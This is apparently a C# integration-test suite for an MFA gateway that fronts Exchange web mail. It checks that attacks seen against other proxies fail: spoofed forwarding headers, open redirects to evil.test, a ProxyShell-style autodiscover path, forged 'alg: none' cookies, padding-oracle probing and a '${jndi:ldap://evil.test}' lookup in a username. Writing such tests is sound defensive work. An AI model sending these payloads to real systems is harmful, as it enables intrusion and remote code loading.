using System.Net;
using System.Text;
using MfaGateway.IntegrationTests.Simulation;

namespace MfaGateway.IntegrationTests.Advisories;

/// <summary>What went wrong in other gateways and is tried here because no test of a feature tries it. docs/advisories.md says which advisory each stands for.</summary>
public sealed class PeerAdvisoryTests
{
    /// <summary>Other proxies took the path, the verb or the origin from headers that anybody can send.</summary>
    [Theory]
    [InlineData("X-Forwarded-Uri: /owa/")]
    [InlineData("X-Forwarded-Method: OPTIONS")]
    [InlineData("X-Forwarded-Prefix: /owa")]
    [InlineData("X-Forwarded-PathBase: /owa")]
    [InlineData("X-Original-URL: /owa/")]
    [InlineData("X-Rewrite-URL: /owa/")]
    [InlineData("X-HTTP-Method-Override: OPTIONS")]
    [InlineData("X-Envoy-Original-Path: /owa/")]
    [InlineData("X-Auth-Request-Redirect: /owa/")]
    [InlineData("User-Agent: kube-probe/1.30")]
    [InlineData("User-Agent: GoogleHC/1.0")]
    public async Task no_header_changes_which_page_the_policy_judges(string header)
    {
        await using var network = await SimulatedNetwork.StartAsync();
        var alice = await network.SignedInBrowserAsync();
        var before = network.Exchange.Requests.Count;

        var answer = await RawConnection.GetAsync(network, "/ecp/", $"Cookie: {Handle(alice)}", header);

        Assert.Equal(403, answer.Status);
        Assert.Equal(before, network.Exchange.Requests.Count);
    }

    [Theory]
    [InlineData("X-Forwarded-Host: evil.test")]
    [InlineData("X-Forwarded-Proto: http")]
    [InlineData("X-Forwarded-Port: 8080")]
    [InlineData("X-Forwarded-Prefix: //evil.test")]
    [InlineData("Forwarded: host=evil.test;proto=http")]
    [InlineData("X-Auth-Request-Redirect: https://evil.test/")]
    [InlineData("X-Auth-Request-Redirect: /owa/?evil.test")]
    [InlineData("Referer: https://evil.test/")]
    [InlineData("Referer: https://mail.contoso.com/owa/?evil.test")]
    public async Task no_header_changes_where_a_sign_in_comes_back_to(string header)
    {
        await using var network = await SimulatedNetwork.StartAsync();

        var answer = await RawConnection.GetAsync(network, "/owa/", header);

        Assert.Equal(302, answer.Status);
        Assert.StartsWith("https://login.contoso.test/authorize?", answer.Location, StringComparison.Ordinal);
        Assert.Contains($"redirect_uri={Uri.EscapeDataString("https://mail.contoso.com/.gateway/signin-oidc/oidc")}&", answer.Location, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.test", answer.Head, StringComparison.Ordinal);
        Assert.Equal("https://mail.contoso.com/owa/", (await FinishAsync(network, answer)).Address.AbsoluteUri);
    }

    [Theory]
    [InlineData("MAIL.CONTOSO.COM", "/ecp/", 403)]
    [InlineData("Mail.Contoso.com:443", "/ECP/", 403)]
    [InlineData("mail.contoso.com", "/eCp/default.aspx", 403)]
    [InlineData("mail.contoso.com", "/owa/prem/Integrated/x.js", 404)]
    [InlineData("mail.contoso.com.", "/ecp/", 400)]
    [InlineData("mail.contoso.com:80", "/ecp/", 400)]
    [InlineData("x@mail.contoso.com", "/ecp/", 400)]
    public async Task large_letters_in_host_and_path_pass_no_rule_by(string host, string path, int status)
    {
        await using var network = await SimulatedNetwork.StartAsync();
        var alice = await network.SignedInBrowserAsync();
        var before = network.Exchange.Requests.Count;

        var answer = await RawConnection.SendAsync(network, $"GET {path} HTTP/1.1\r\nHost: {host}\r\nAccept: text/html\r\nCookie: {Handle(alice)}\r\nConnection: close\r\n\r\n");

        Assert.Equal(status, answer.Status);
        Assert.Equal(before, network.Exchange.Requests.Count);
    }

    [Theory]
    [InlineData("/powershell?/owa/")]
    [InlineData("/powershell/?x=/owa/service.svc")]
    [InlineData("/autodiscover/autodiscover.json?@contoso.com/owa/&Email=autodiscover/autodiscover.json%3f@contoso.com")]
    [InlineData("/x?/owa/")]
    [InlineData("/owa/prem/x.aspx?.js")]
    [InlineData("/owa/prem/x.aspx?/y.js")]
    public async Task a_query_publishes_no_path(string target)
    {
        await using var network = await SimulatedNetwork.StartAsync();
        var alice = await network.SignedInBrowserAsync();
        var before = network.Exchange.Requests.Count;

        Assert.Equal(404, (await RawConnection.GetAsync(network, target, $"Cookie: {Handle(alice)}")).Status);
        Assert.Equal(before, network.Exchange.Requests.Count); // the 404 is ours
    }

    /// <summary>Each made a proxy crash, loop or let its sender in.</summary>
    [Theory(Timeout = 60_000)] // a loop has no answer
    [InlineData("__Host-mfagw=chunks-99999999")]
    [InlineData("__Host-mfagw=chunks:2147483647; __Host-mfagwC1=x")]
    [InlineData("__Host-mfagw=;;;=;; ;")]
    [InlineData("__Host-mfagw")]
    [InlineData("=")]
    [InlineData("__Host-mfagw=\"; x=\"")]
    [InlineData("__Host-mfagw=%41%41")]
    [InlineData("__Host-mfagw=eyJhbGciOiJub25lIn0.eyJ1c2VyIjoiYWRtaW4ifQ.")]
    [InlineData("__Host-mfagw=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")]
    [InlineData("__Host-mfagw=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")]
    public async Task a_cookie_that_is_no_handle_is_nobody(string cookie)
    {
        await using var network = await SimulatedNetwork.StartAsync();

        var request = $"POST /owa/service.svc?action=x HTTP/1.1\r\nHost: mail.contoso.com\r\nCookie: {cookie}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
        var answer = await RawConnection.SendAsync(network, request).WaitAsync(TestContext.Current.CancellationToken);

        Assert.Equal(440, answer.Status);
        Assert.Empty(network.Exchange.Requests);
    }

    /// <summary>Junk, and the handle of a session that there is: it counts in its cookie and nowhere else.</summary>
    [Theory]
    [InlineData("Authorization: Bearer x")]
    [InlineData("Authorization: Basic YWRtaW5AY29udG9zby5jb206cGFzc3dvcmQ=")]
    [InlineData("Authorization: Negotiate TlRMTVNTUAABAAAA")]
    [InlineData("Authorization: DPoP x")]
    [InlineData("Authorization: Bearer HANDLE")]
    [InlineData("Authorization: bearer  HANDLE")]
    [InlineData("Authorization: DPoP HANDLE")]
    [InlineData("Authorization: HANDLE")]
    [InlineData("Authorization: Basic AS-PASSWORD")]
    [InlineData("Authorization: Basic AS-NAME")]
    [InlineData("Authorization: Bearer __Host-mfagw=HANDLE")]
    [InlineData("Proxy-Authorization: Bearer HANDLE")]
    [InlineData("X-Forwarded-Access-Token: HANDLE")]
    [InlineData("X-Auth-Token: HANDLE")]
    [InlineData("X-Access-Token: HANDLE")]
    [InlineData("Cookie2: __Host-mfagw=HANDLE")]
    [InlineData("Sec-WebSocket-Protocol: access_token, HANDLE")]
    public async Task credentials_in_a_header_open_nothing(string header)
    {
        await using var network = await SimulatedNetwork.StartAsync();
        var alice = await network.SignedInBrowserAsync();
        var before = network.Exchange.Requests.Count;
        var handle = alice.Cookies.Find("__Host-mfagw")!.Value;
        var sent = header.Replace("AS-PASSWORD", Base64($"{Person.Alice.Upn}:{handle}"), StringComparison.Ordinal)
            .Replace("AS-NAME", Base64($"{handle}:"), StringComparison.Ordinal)
            .Replace("HANDLE", handle, StringComparison.Ordinal);

        var answer = await RawConnection.SendAsync(network, $"POST /owa/service.svc?action=x HTTP/1.1\r\nHost: mail.contoso.com\r\n{sent}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");

        Assert.Equal(440, answer.Status);
        Assert.Equal(before, network.Exchange.Requests.Count);
    }

    [Theory]
    [InlineData("/.gateway/signin")]
    [InlineData("/.gateway/signin-oidc/oidc")]
    [InlineData("/.gateway/session")]
    [InlineData("/.gateway/backchannel-logout")]
    [InlineData("/owa/auth.owa")]
    [InlineData("/owa/")]
    [InlineData("/")]
    public async Task a_post_of_nothing_skips_no_step(string path)
    {
        await using var network = await SimulatedNetwork.StartAsync();
        var browser = network.NewBrowser();
        await browser.FollowToAsync(await browser.GetAsync("/owa/"), "login.contoso.test");

        var answer = await browser.PostAsync(path, "https://login.contoso.test", []);

        Assert.InRange((int)answer.Status, 400, 499);
        await network.ExpectNobodySignedInAsync(browser);
    }

    [Fact]
    public async Task taking_the_challenge_out_of_the_redirect_does_not_keep_the_verifier_from_the_provider()
    {
        await using var network = await SimulatedNetwork.StartAsync();
        network.Provider.EditedByUser = request =>
        {
            request.Remove("code_challenge");
            request.Remove("code_challenge_method");
        };

        await network.NewBrowser().OpenAsync("/owa/");

        Assert.True(network.Provider.TokenRequests.Single().ContainsKey("code_verifier")); // a provider that got no challenge must refuse it (RFC 9700, 2.1.1)
    }

    [Fact]
    public async Task what_a_person_sees_of_the_own_session_holds_no_token_handle_or_group()
    {
        await using var network = await SimulatedNetwork.StartAsync();
        string? token = null;
        network.Provider.TokenAnswer = answer => token = answer["id_token"]!.GetValue<string>();
        var alice = await network.SignedInBrowserAsync();

        var shown = (await alice.FetchAsync(HttpMethod.Get, "/.gateway/session")).Body;

        Assert.Contains("alice@contoso.com", shown, StringComparison.Ordinal);
        foreach (var secret in new[] { token!.Split('.')[2], "opaque", alice.Cookies.Find("__Host-mfagw")!.Value, "Staff", Person.Alice.Sub, "sid-alice" })
            Assert.DoesNotContain(secret, shown, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("?post_logout_redirect_uri=https://evil.test/")]
    [InlineData("?rd=https://evil.test/&redirect=//evil.test&returnUrl=https://evil.test&logout=https://evil.test")]
    [InlineData("?url=javascript:alert(1)&state=x")]
    public async Task a_sign_out_leads_nowhere_that_its_address_says(string query)
    {
        await using var network = await SimulatedNetwork.StartAsync();
        var alice = await network.SignedInBrowserAsync();

        foreach (var browser in new[] { alice, network.NewBrowser() })
        {
            var answer = await browser.GetAsync($"/.gateway/signout{query}");

            Assert.Equal(HttpStatusCode.Found, answer.Status);
            Assert.DoesNotContain("evil.test", answer.Location, StringComparison.Ordinal);
            Assert.DoesNotContain("javascript", answer.Location, StringComparison.Ordinal);
        }
    }

    /// <summary>What a step-up asks for travels in an address for one hop; it is the gateway's own word or nothing.</summary>
    [Fact]
    public async Task a_note_of_a_step_up_that_somebody_made_up_asks_for_nothing()
    {
        await using var network = await SimulatedNetwork.StartAsync();
        var alice = await network.SignedInBrowserAsync();
        var before = network.Provider.AuthorizationRequests.Count;

        await alice.OpenAsync("/.gateway/signin?go=1&ask=eyJNZmEiOmZhbHNlLCJDb250ZXh0cyI6WyJldmlsIl19&return=%2Fowa%2F");

        Assert.True(network.Provider.AuthorizationRequests.Count > before); // an ordinary sign-in
        Assert.DoesNotContain(network.Provider.AuthorizationRequests, request => request.GetValueOrDefault("acr_values", "").Contains("evil", StringComparison.Ordinal));
        Assert.DoesNotContain("Error ", network.Log.Text, StringComparison.Ordinal);
    }

    /// <summary>An answer that told a wrong padding from a wrong signature gave the secret away byte by byte.</summary>
    [Fact]
    public async Task a_state_spoiled_anywhere_gets_one_and_the_same_answer()
    {
        await using var network = await SimulatedNetwork.StartAsync();
        var browser = network.NewBrowser();
        var form = (await browser.FollowToAsync(await browser.GetAsync("/owa/"), "login.contoso.test")).Fields;
        var state = form["state"];
        var answers = new HashSet<string>();

        for (var at = 0; at < state.Length; at += 7)
        {
            form["state"] = $"{state[..at]}{(state[at] == 'A' ? 'B' : 'A')}{state[(at + 1)..]}";
            var answer = await browser.PostAsync("/.gateway/signin-oidc/oidc", "https://login.contoso.test", form);
            answers.Add($"{(int)answer.Status} {answer.Body.Replace(answer.Reference, "", StringComparison.Ordinal)}");
        }

        Assert.StartsWith("400 ", Assert.Single(answers), StringComparison.Ordinal);
        Assert.All(network.Audit.Lines, line => Assert.Equal("sign-in-stale", line["gateway.reason"]));
        Assert.Empty(network.Provider.TokenRequests);
    }

    [Fact]
    public async Task a_name_full_of_format_signs_is_a_name()
    {
        await using var network = await SimulatedNetwork.StartAsync();
        network.Provider.Person = new Person("%s%n{0}{User}${jndi:ldap://evil.test}@contoso.com", ["Staff"]);

        var session = await network.ExpectAcceptedAsync(network.NewBrowser());

        Assert.Equal(network.Provider.Person.Upn, session.GetProperty("user").GetString());
        Assert.Contains(network.Audit.Lines, line => line["user.name"] == network.Provider.Person.Upn);
        Assert.DoesNotContain("Error ", network.Log.Text, StringComparison.Ordinal);

        network.Provider.AuthorizationAnswer = answer => answer["error_description"] = answer["error"] = network.Provider.Person.Upn; // this one comes into the log
        network.ExpectRefusal(await network.NewBrowser().OpenAsync("/owa/"), HttpStatusCode.BadGateway, "sign-in-invalid");
        Assert.Contains(network.Provider.Person.Upn, network.Log.Text, StringComparison.Ordinal);
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.ASCII.GetBytes(text));

    /// <summary>Goes on in a browser to the end of the sign-in that an answer began.</summary>
    private static async Task<Page> FinishAsync(SimulatedNetwork network, RawAnswer begun)
    {
        const string Cookie = "Set-Cookie: ";
        var browser = network.NewBrowser();
        foreach (var line in begun.Head.Split("\r\n").Where(line => line.StartsWith(Cookie, StringComparison.OrdinalIgnoreCase)))
            browser.Cookies.Take(new Uri(NetworkSetup.Origin), line[Cookie.Length..]);
        return await browser.OpenAsync(begun.Location!);
    }

    private static string Handle(Browser browser) => $"__Host-mfagw={browser.Cookies.Find("__Host-mfagw")!.Value}";
}
